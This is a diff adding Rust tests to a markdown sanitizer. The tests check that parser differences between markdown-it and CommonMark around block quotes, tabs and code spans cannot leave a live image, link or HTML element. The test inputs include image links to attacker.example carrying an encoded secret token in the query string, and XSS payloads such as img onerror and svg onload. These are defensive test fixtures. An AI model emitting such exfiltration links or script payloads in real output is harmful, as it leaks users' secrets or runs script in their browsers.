@@ -1003,3 +1003,194 @@ fn passes_that_compound_growth_stop_at_a_bound() {
     let (twice, _, unchanged) = run(&once);
     assert!(unchanged && twice == once);
 }
+
+/// Sanitizes `input`, expects `want` with an `html_sanitized` finding, and expects a
+/// second pass to leave it alone; returns the output.
+fn settles_with_finding(input: &str, want: &str) -> String {
+    let (once, codes, _) = run(input);
+    assert_eq!(once, want, "{input:?}");
+    assert!(codes.contains(&Code::HtmlSanitized), "{input:?}: {codes:?}");
+    let (twice, _, unchanged) = run(&once);
+    assert!(unchanged && twice == once, "{input:?} changed again");
+    once
+}
+
+/// markdown-it (14.x) continues a block quote on a `>` line however far it is indented;
+/// `CommonMark` readers take such a line after a quote that ends in a heading, fence,
+/// rule or HTML block for an indented code block, which the sanitizer leaves alone. An
+/// empty line (with the line's `>` prefix) now ends the quote for markdown-it too. Every
+/// input below renders a live image or link in markdown-it 14.3 and every output renders
+/// only code there (checked with markdown-it outside the test suite); for `CommonMark`
+/// readers the output reads as the input did.
+#[test]
+fn indented_quote_markers_after_a_quote_cannot_continue_it() {
+    let url = "https://attacker.example/a.png?d=c2VjcmV0LXRva2VuLXZhbHVl";
+    let cases = [
+        (
+            format!("> # heading\n    > ![x]({url})\n"),
+            format!("> # heading\n\n    > ![x]({url})\n"),
+        ),
+        (
+            format!("> > # h\n>     > ![x]({url})\n"),
+            format!("> > # h\n>\n>     > ![x]({url})\n"),
+        ),
+        (
+            format!("- > # h\n      > ![x]({url})\n"),
+            format!("- > # h\n\n      > ![x]({url})\n"),
+        ),
+        (
+            format!("1. > # h\n       > ![x]({url})\n"),
+            format!("1. > # h\n\n       > ![x]({url})\n"),
+        ),
+        (
+            format!("> # h\n    > quote\n    ![x]({url})\n"),
+            format!("> # h\n\n    > quote\n    ![x]({url})\n"),
+        ),
+        (
+            format!("> # h\r\n    > ![x]({url})\r\n"),
+            format!("> # h\r\n\n    > ![x]({url})\r\n"),
+        ),
+        (
+            format!("> ```\n> code\n> ```\n    > ![x]({url})\n"),
+            format!("> ```\n> code\n> ```\n\n    > ![x]({url})\n"),
+        ),
+        (
+            format!("> ---\n     > [t]({url})\n"),
+            format!("> ---\n\n     > [t]({url})\n"),
+        ),
+    ];
+    let options = super::super::second_reading::options();
+    for (input, want) in &cases {
+        let once = settles_with_finding(input, want);
+        assert_eq!(
+            comrak::markdown_to_html(&once, &options).replace("\n\n", "\n"),
+            comrak::markdown_to_html(input, &options).replace("\n\n", "\n"),
+            "{input:?}: the CommonMark reading changed"
+        );
+    }
+    // An HTML block at the end of the quote: the HTML pass closes the element as well.
+    let (once, _, _) = run(&format!("> <div>\n>\n    > ![x]({url})\n"));
+    assert!(once.contains(&format!("\n\n    > ![x]({url})")), "{once:?}");
+    // Look-alikes: no quote before, a blank line between, a lazy paragraph line (a
+    // paragraph for every reader), code that does not start with `>`, a fenced block.
+    for text in [
+        "# Usage\n    > npm install\n",
+        "> quote\n\n    > code\n",
+        "> para\n    > lazy\n",
+        // An empty quote line in a quote inside a list item holds markers only.
+        "1. Reply:\n\n    > quoted\n    >\n    > more, see [docs](https://example.com/x)\n",
+        "- b\n     > >\n\n[x]\n",
+        "> # h\n    code > here\n",
+        "> # h\n```\n    > x\n```\n",
+    ] {
+        let (out, codes, unchanged) = run(text);
+        assert!(unchanged && codes.is_empty(), "{text:?}: {out:?} {codes:?}");
+    }
+}
+
+/// A paragraph line whose text begins with `>` where `CommonMark` reads no quote marker
+/// (lazy, or indented four or more columns) continues a running quote for markdown-it,
+/// which then reads the rest as blocks: `> p` then `    > - <!-- x` hides `x` in a
+/// comment there. Found by `props_markdown::sanitized_markdown_is_inert_for_real_markdown_it`;
+/// each output checked inert with markdown-it 15.
+#[test]
+fn lazy_quote_markers_are_escaped() {
+    for (input, want) in [
+        ("> p\n    > - <!-- x\n", "> p\n    \\> - <!-- x\n"),
+        ("> > p\n>     > <div>\n", "> > p\n>     \\> <div>\n"),
+        // The line continues a code span (visible backslash in the span: the price).
+        (
+            "> a ``\n    > - <!-- c ``\n",
+            "> a ``\n    \\> - <!-- c ``\n",
+        ),
+        (
+            "> > a ``\n>      > - <!-- c ``\n",
+            "> > a ``\n>      \\> - <!-- c ``\n",
+        ),
+        // A line starting a block cuts the span open for markdown-it in nested containers
+        // (found by a hostile review): a rule, a list item, an ordered list item.
+        (
+            "> > see `` x\n    ---\n![x](https://attacker.example/a.png?d=c2VjcmV0LXRva2VuLXZhbHVl) ``\n",
+            "> > see `` x\n    \\---\n![x](https://attacker.example/a.png?d=c2VjcmV0LXRva2VuLXZhbHVl) ``\n",
+        ),
+        (
+            "> > a `` x\n    - b\n<img src=x onerror=alert(1)> ``\n",
+            "> > a `` x\n    \\- b\n\\<img src=x onerror=alert(1)> ``\n",
+        ),
+        (
+            "- > > a `` x\n      1. b\n<svg onload=alert(1)> ``\n",
+            "- > > a `` x\n      1\\. b\n\\<svg onload=alert(1)> ``\n",
+        ),
+    ] {
+        settles_with_finding(input, want);
+    }
+}
+
+/// Tabs after container markers, which markdown-it measures from another column than
+/// `CommonMark` in nested containers, become the spaces `CommonMark` reads them as; the
+/// `CommonMark` reading stays the same. `> - > -  \t<svg onload=…>` is an indented code
+/// block for `CommonMark` and a paragraph with live HTML for markdown-it 15.
+#[test]
+fn tabs_after_container_markers_become_spaces() {
+    let options = super::super::second_reading::options();
+    for (input, want) in [
+        (
+            "> - > -  \t<svg onload=alert(1)>\n",
+            "> - > -     <svg onload=alert(1)>\n",
+        ),
+        (">\t>- <b>x</b>\n", ">   >- <b>x</b>\n"),
+        ("> a\n \t<b>x</b>\n", "> a\n    <b>x</b>\n"),
+        ("> 1.\t\t<b>code</b>\n", "> 1.        <b>code</b>\n"),
+    ] {
+        let once = settles_with_finding(input, want);
+        assert_eq!(
+            comrak::markdown_to_html(&once, &options),
+            comrak::markdown_to_html(input, &options),
+            "{input:?}: the CommonMark reading changed"
+        );
+    }
+    // Tabs outside containers, in lists outside quotes, and inside code or a paragraph,
+    // stay.
+    for text in [
+        "- a\n \t<b>x</b>\n",
+        "1.\t\t<b>code</b>\n",
+        "- a [x](/y)\n\t- b\n\t\t- c\n",
+        "\t<b>code</b>\n\t\tmore\n",
+        "```\n- \t<b>x</b>\n```\n",
+        "a\t<b>b</b>\n",
+        "- item\twith a <b>tab</b>\n",
+    ] {
+        let (out, codes, unchanged) = run(text);
+        assert!(unchanged && codes.is_empty(), "{text:?}: {out:?} {codes:?}");
+    }
+}
+
+/// A tab that puts a `>` at column 4 (found by a hostile review): pulldown-cmark takes
+/// `\t>` for a quote marker, `CommonMark` and markdown-it do not, and markdown-it then
+/// continues the quote on the indented `>` after it. The tabs become spaces, the next
+/// pass sees the quote end before an indented code block, and an empty line ends the
+/// quote for markdown-it too (each output checked inert with markdown-it 15).
+#[test]
+fn tab_placed_quote_markers_settle_inert() {
+    let url = "https://attacker.example/a.png?d=c2VjcmV0LXRva2VuLXZhbHVl";
+    for (input, want) in [
+        (
+            format!("> # h\n\t>\t > ![x]({url})\n"),
+            format!("> # h\n\n    >    > ![x]({url})\n"),
+        ),
+        (
+            format!("> > # h\n\t>\t > ![x]({url})\n"),
+            format!("> > # h\n\n    >    > ![x]({url})\n"),
+        ),
+        (
+            format!(">> ---\n  \t>    > ![x]({url})\n"),
+            format!(">> ---\n\n    >    > ![x]({url})\n"),
+        ),
+        (
+            ">>> \t<img src=x onerror=alert(1)>\n".to_owned(),
+            ">>>     <img src=x onerror=alert(1)>\n".to_owned(),
+        ),
+    ] {
+        settles_with_finding(&input, &want);
+    }
+}
